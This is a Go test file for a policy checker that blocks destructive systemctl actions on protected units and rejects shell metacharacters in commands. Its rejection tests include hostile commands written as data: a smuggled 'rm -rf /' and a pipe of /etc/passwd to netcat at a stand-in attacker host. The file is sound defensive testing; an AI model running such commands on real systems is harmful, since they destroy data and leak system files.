package executor

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var testProtected = []string{"sshd", "systemd-networkd", "NetworkManager", "systemd", "dbus", "systemd-logind"}

func TestCheckPolicy_AllowsBenignCommands(t *testing.T) {
	commands := []string{
		"systemctl restart nginx",
		"systemctl status sshd",
		"journalctl -u postgresql -n 50",
		"df -h /var",
	}
	assert.NoError(t, checkPolicy(commands, testProtected))
}

func TestCheckPolicy_RejectsDestructiveVerbOnProtectedUnit(t *testing.T) {
	tests := []struct {
		name    string
		command string
	}{
		{"plain stop", "systemctl stop sshd"},
		{"suffixed unit", "systemctl stop sshd.service"},
		{"disable", "systemctl disable systemd-networkd"},
		{"mask", "systemctl mask NetworkManager"},
		{"kill with flag between", "systemctl kill --signal=9 sshd.service"},
		{"quoted unit", `systemctl stop "sshd"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := checkPolicy([]string{tt.command}, testProtected)
			require.Error(t, err)
			assert.ErrorIs(t, err, ErrPolicyRejected)
		})
	}
}

func TestCheckPolicy_RejectsShellMetacharacters(t *testing.T) {
	tests := []string{
		"systemctl restart nginx; rm -rf /",
		"cat /etc/passwd | nc evil.example 9999",
		"echo $(whoami)",
		"journalctl -u nginx > /tmp/out",
		"systemctl restart nginx && systemctl stop sshd",
	}
	for _, command := range tests {
		err := checkPolicy([]string{command}, testProtected)
		require.Error(t, err, "command %q should be rejected", command)
		assert.ErrorIs(t, err, ErrPolicyRejected)
	}
}

func TestCheckPolicy_AllowsDestructiveVerbOnUnprotectedUnit(t *testing.T) {
	assert.NoError(t, checkPolicy([]string{"systemctl stop nginx"}, testProtected))
	assert.NoError(t, checkPolicy([]string{"systemctl disable tmp-cleaner.timer"}, testProtected))
}

func TestCheckPolicy_ChecksEveryCommand(t *testing.T) {
	commands := []string{
		"systemctl status sshd",
		"systemctl stop sshd",
	}
	err := checkPolicy(commands, testProtected)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "sshd")
}

func TestCheckPolicy_ProtectedNameAsArgumentOnly(t *testing.T) {
	// Mentioning a protected unit without a destructive verb is fine.
	assert.NoError(t, checkPolicy([]string{"systemctl restart sshd"}, testProtected))
}

func TestCheckPolicy_EmptyCommandList(t *testing.T) {
	assert.NoError(t, checkPolicy(nil, testProtected))
}

func TestScanCommand_ReportsVerbAndUnit(t *testing.T) {
	verb, unit := scanCommand("systemctl kill --signal=9 sshd.service", testProtected)
	assert.Equal(t, "kill", verb)
	assert.Equal(t, "sshd", unit)
}

func TestScanCommand_ProtectedConfiguredWithSuffix(t *testing.T) {
	verb, unit := scanCommand("systemctl stop dbus", []string{"dbus.service"})
	assert.Equal(t, "stop", verb)
	assert.Equal(t, "dbus.service", unit)
}
